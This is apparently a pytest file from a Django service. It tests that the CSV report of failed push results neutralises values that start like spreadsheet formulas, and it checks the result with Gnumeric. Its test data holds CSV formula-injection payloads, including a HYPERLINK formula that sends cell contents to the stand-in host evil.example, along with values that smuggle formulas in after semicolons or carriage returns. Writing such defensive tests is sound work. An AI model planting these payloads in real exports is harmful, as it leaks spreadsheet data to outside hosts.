"""Issue 11, finding 4: push results that start like a formula land in the CSV report as text.

The report is opened by a real spreadsheet program, Gnumeric's ``ssconvert`` (Debian's
``gnumeric``; CI installs it), which evaluates formulas when it imports a CSV: the same file
without the neutralising apostrophes turns ``=1+2`` into ``3`` and a ``HYPERLINK`` into its
label, and with them every cell reads back as the text the integration sent.
"""

import csv
import io
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from rest_framework.test import APIClient

from reports import services as reports
from reports.cells import safe_cell
from tests.relay import run_relay

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"details")'
# what the integration sends -> the column it lands in
HOSTILE = {
    "push_communication_id": "=1+2",
    "service_name": HYPERLINK,
    "data_type": "@SUM(1+1)",
    "source_object_ids": "+1+1",
    "validation_errors": "-2+3: check the amount",
}


def spreadsheet_rows(csv_text: str, workdir: Path) -> list[list[str]]:
    """The cells as Gnumeric computes them after importing ``csv_text``."""
    source, target = workdir / "in.csv", workdir / "out.csv"
    source.write_text(csv_text, encoding="utf-8")
    subprocess.run(
        [
            shutil.which("ssconvert") or "ssconvert",
            "--import-type=Gnumeric_stf:stf_csvtab",
            "--export-type=Gnumeric_stf:stf_csv",
            str(source),
            str(target),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"))))


def report_csv(api: APIClient) -> str:
    """The downloaded report: eight ordinary failed pushes, then the hostile one (last row)."""
    job = api.post("/api/v1/jobs/", {"type": "export"}, format="json").json()
    for n in range(8):
        ordinary = {
            "event": "push",
            "pushCommunicationId": f"push-{n}",
            "status": "failed",
            "responseCode": 400,
            "serviceName": "quickbooks",
            "dataType": "invoices",
            "sourceObjectIds": [str(n)],
            "validation": {"errors": [{"field": "memo", "message": "line one, with a comma"}]},
        }
        response = api.post(
            f"/api/v1/jobs/{job['id']}/push-results/", {"data": ordinary}, format="json"
        )
        assert response.status_code == 201
    pushed = api.post(
        f"/api/v1/jobs/{job['id']}/push-results/",
        {
            "data": {
                "event": "push",
                "pushCommunicationId": HOSTILE["push_communication_id"],
                "status": "failed",
                "responseCode": 400,
                "serviceName": HOSTILE["service_name"],
                "dataType": HOSTILE["data_type"],
                "sourceObjectIds": [HOSTILE["source_object_ids"]],
                "validation": {"errors": [{"field": "-2+3", "message": "check the amount"}]},
            }
        },
        format="json",
    )
    assert pushed.status_code == 201, pushed.content
    api.post(f"/api/v1/jobs/{job['id']}/events/", {"status": "completed"}, format="json")
    run_relay()
    reports.report_build(job_id=job["id"])
    link = api.get(f"/api/v1/jobs/{job['id']}/report/")
    assert link.status_code == 302
    download = APIClient().get(link["Location"].removeprefix("http://127.0.0.1:8000"))
    return b"".join(download.streaming_content).decode()


def test_cells_that_start_like_a_formula_get_a_leading_apostrophe(api: APIClient) -> None:
    rows = list(csv.reader(io.StringIO(report_csv(api))))
    cells = dict(zip(rows[0], rows[-1], strict=True))

    for column, sent in HOSTILE.items():
        assert cells[column] == "'" + sent, column
    assert cells["status"] == "failed" and cells["response_code"] == "400"


@pytest.mark.spreadsheet
def test_a_spreadsheet_reads_the_report_as_text(api: APIClient, tmp_path: Path) -> None:
    text = report_csv(api)

    rows = spreadsheet_rows(text, tmp_path)
    cells = dict(zip(rows[0], rows[-1], strict=False))
    for column, sent in HOSTILE.items():
        assert cells[column] == sent, column  # the text itself, apostrophe consumed
    assert rows[1][0] == "push-0" and rows[1][-1] == "memo: line one, with a comma"

    # the control: without the apostrophes the same reader runs the formulas
    unescaped = io.StringIO()
    writer = csv.writer(unescaped, lineterminator="\n")
    for row in csv.reader(io.StringIO(text)):
        writer.writerow([cell.removeprefix("'") for cell in row])
    rows = spreadsheet_rows(unescaped.getvalue(), tmp_path)
    evaluated = dict(zip(rows[0], rows[-1], strict=False))
    assert evaluated["push_communication_id"] == "3"
    assert evaluated["service_name"] == "details"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("quickbooks", "quickbooks"),
        ("a=b", "a=b"),
        ("a;=1+2", "a;'=1+2"),
        ("=1;-2;b;@c", "'=1;'-2;b;'@c"),
        ("a; =1", "a; =1"),
        ("", ""),
        (400, 400),
    ],
)
def test_safe_cell_follows_the_owasp_rule(value: Any, cell: Any) -> None:
    assert safe_cell(value) == cell


def _one_push_report(api: APIClient, **fields: Any) -> str:
    """The CSV of a new job holding one failed push (``fields`` override its values)."""
    job = api.post("/api/v1/jobs/", {"type": "export"}, format="json").json()
    push = {
        "event": "push",
        "pushCommunicationId": "p1",
        "status": "failed",
        "responseCode": 400,
        "serviceName": "quickbooks",
        "dataType": "invoices",
        "sourceObjectIds": ["1"],
        **fields,
    }
    sent = api.post(f"/api/v1/jobs/{job['id']}/push-results/", {"data": push}, format="json")
    assert sent.status_code == 201, sent.content
    out = io.StringIO(newline="")
    reports.write_report_csv(job_id=job["id"], out=out)
    return out.getvalue()


def test_a_carriage_return_inside_a_cell_is_quoted_not_a_row_break(api: APIClient) -> None:
    """A bare carriage return in the middle of a value: quoted (as PostgreSQL's writer does),
    or readers start a new row there, whose first cell (``=1+2``) is not neutralised."""
    text = _one_push_report(api, serviceName="quickbooks\r=1+2")

    assert '"quickbooks\r=1+2"' in text and text.count("\n") == 2
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert dict(zip(header, row, strict=True))["service_name"] == "quickbooks\r=1+2"


def test_each_of_several_source_ids_is_safe_where_semicolons_split_cells(api: APIClient) -> None:
    """Several source ids are joined with ``;``, the list separator of spreadsheets in many
    locales (a European Excel splits the row there): every id, not only the first, gets the
    apostrophe, so no part of the cell opens as a formula."""
    text = _one_push_report(api, sourceObjectIds=["1", HYPERLINK, "-2+3", "a=b"])

    header, row = list(csv.reader(io.StringIO(text, newline="")))
    cell = dict(zip(header, row, strict=True))["source_object_ids"]
    assert cell.split(";") == ["1", "'" + HYPERLINK, "'-2+3", "a=b"]


def test_a_part_after_a_semicolon_in_any_column_is_safe(api: APIClient) -> None:
    text = _one_push_report(api, serviceName="quickbooks;=1+2", dataType="x;@SUM(1)")

    header, row = list(csv.reader(io.StringIO(text, newline="")))
    cells = dict(zip(header, row, strict=True))
    assert (cells["service_name"], cells["data_type"]) == ("quickbooks;'=1+2", "x;'@SUM(1)")
